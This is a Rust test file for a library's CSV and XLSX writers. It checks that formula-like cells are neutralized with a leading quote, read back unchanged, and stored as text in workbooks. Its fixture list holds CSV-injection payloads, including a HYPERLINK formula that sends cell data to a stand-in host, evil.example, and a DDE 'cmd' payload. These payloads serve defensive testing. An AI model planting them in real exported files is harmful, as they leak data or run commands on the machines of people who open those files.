//! No CSV cell Komlang writes starts a formula in a spreadsheet program, and the CSV reader
//! reads every written cell back as it was; XLSX cells are always text, never formulas.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code: a failed unwrap is a failed test")]

use std::io::{Cursor, Read};

use komlang_io::{csv_rows, guard_formula, is_formula_like, unguard_formula, write_csv, write_xlsx, TableReader};
use proptest::prelude::*;

/// Cells that spreadsheet programs run, and their neighbours that must survive unchanged.
const CELLS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u{FF1D}1+1",
    "+855 12 345 678",
    "-5",
    "-0.25",
    "-",
    "'=1+1",
    "''+x",
    "'abc",
    "'-5",
    "'",
    "a=b",
    "ស=",
    "",
    "plain",
];

#[test]
fn the_rule() {
    for c in ["=1", "+1", "-1+1", "@x", "\tx", "\rx", " =1", "\u{A0}@x", "\u{FF0B}1", "-", "-1e5", "+855 12 345 678"] {
        assert!(is_formula_like(c), "{c:?} is formula-like");
        assert_eq!(guard_formula(c), format!("'{c}"));
    }
    for c in ["-5", "-0.5", "", "abc", "a=1", "'=1", "1-2", "\nabc", "ស"] {
        assert!(!is_formula_like(c), "{c:?} is not formula-like");
    }
    // A cell made of quotes and then a formula gets one more quote, so that it reads back.
    assert_eq!(guard_formula("'=1"), "''=1");
    assert_eq!(guard_formula("''@x"), "'''@x");
    assert_eq!(guard_formula("'abc"), "'abc");
    assert_eq!(guard_formula("'-5"), "'-5");
    assert_eq!(unguard_formula("'=1"), "=1");
    assert_eq!(unguard_formula("''=1"), "'=1");
    assert_eq!(unguard_formula("'abc"), "'abc");
    assert_eq!(unguard_formula("'-5"), "'-5");
    assert_eq!(unguard_formula("'"), "'");
    for c in CELLS {
        assert_eq!(unguard_formula(&guard_formula(c)), *c);
        assert!(!is_formula_like(&guard_formula(c)), "{c:?} is neutralized");
    }
}

fn read_csv(bytes: Vec<u8>) -> (Vec<String>, Vec<Vec<String>>) {
    let r = TableReader::from_bytes("f.csv", bytes).unwrap();
    let headers = r.headers().to_vec();
    (headers, r.map(|row| row.unwrap().1).collect())
}

#[test]
fn written_csv_cells_never_start_a_formula_and_read_back() {
    let headers = ["=cmd", "b"];
    let rows: Vec<Vec<String>> = CELLS.iter().map(|c| vec![c.to_string(), format!("x{c}")]).collect();
    let mut out = Vec::new();
    write_csv(&mut out, &headers, rows.clone().into_iter()).unwrap();
    // Every cell of the file, as a spreadsheet program splits it.
    let mut raw = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&out[3..]);
    let mut n = 0;
    for rec in raw.records() {
        for cell in rec.unwrap().iter() {
            assert!(!is_formula_like(cell), "{cell:?} would run in a spreadsheet program");
            n += 1;
        }
    }
    assert_eq!(n, 2 * (CELLS.len() + 1));
    assert!(String::from_utf8_lossy(&out).contains("'=HYPERLINK("), "the formula is kept as text");
    let (h, got) = read_csv(out.clone());
    assert_eq!(h, ["=cmd", "b"]);
    assert_eq!(got.len(), rows.len());
    for (g, w) in got.iter().zip(&rows) {
        // (The reader drops fully empty rows; none here, since the second cell is never empty.)
        assert_eq!(g, w);
    }
    // The pieces of a streamed file are written the same way.
    let mut head = Vec::new();
    write_csv(&mut head, &headers, std::iter::empty()).unwrap();
    head.extend(csv_rows(rows.iter()).unwrap());
    assert_eq!(head, out);
}

/// The XML of the sheet of a workbook.
fn sheet_xml(bytes: &[u8]) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut f = zip.by_name("xl/worksheets/sheet1.xml").unwrap();
    let mut s = String::new();
    f.read_to_string(&mut s).unwrap();
    s
}

#[test]
fn xlsx_cells_are_text_never_formulas() {
    let rows: Vec<Vec<String>> = CELLS.iter().map(|c| vec![c.to_string(), "x".to_string()]).collect();
    let mut out = Cursor::new(Vec::new());
    write_xlsx(&mut out, &["=cmd", "b"], rows.clone().into_iter()).unwrap();
    let bytes = out.into_inner();
    let xml = sheet_xml(&bytes);
    assert!(!xml.contains("<f>") && !xml.contains("<f "), "no formula in the sheet");
    assert!(xml.contains("HYPERLINK"), "the text is there, as text");
    let r = TableReader::from_bytes("f.xlsx", bytes).unwrap();
    assert_eq!(r.headers(), ["=cmd", "b"]);
    let got: Vec<Vec<String>> = r.map(|row| row.unwrap().1).collect();
    // Cells read back exactly: a workbook's cells need no quote, they are typed as text.
    // (A carriage return is written as Excel's escape `_x000D_`, which the reader leaves as
    // it is: not a formula either.)
    for (g, w) in got.iter().zip(&rows) {
        if w[0].contains('\r') {
            assert_eq!(g[0], w[0].replace('\r', "_x000D_"));
        } else {
            assert_eq!(g, w);
        }
    }
    assert_eq!(got.len(), rows.len());
}

proptest! {
    #[test]
    fn guard_then_unguard_is_the_identity(s in "['=+\\-@\t\r \u{FF1D}a0-9.]{0,6}|\\PC{0,12}") {
        let g = guard_formula(&s);
        prop_assert_eq!(unguard_formula(&g), s.as_str());
        prop_assert!(!is_formula_like(&g));
    }

    #[test]
    fn csv_files_read_back_cell_for_cell(
        cells in prop::collection::vec("['=+\\-@ \t\u{FF1D}a-z0-9.]{1,8}", 1..20)
    ) {
        let rows: Vec<Vec<String>> = cells.iter().map(|c| vec![c.clone(), "k".to_string()]).collect();
        let mut out = Vec::new();
        write_csv(&mut out, &["a", "b"], rows.clone().into_iter()).unwrap();
        let (_, got) = read_csv(out);
        prop_assert_eq!(got, rows);
    }
}
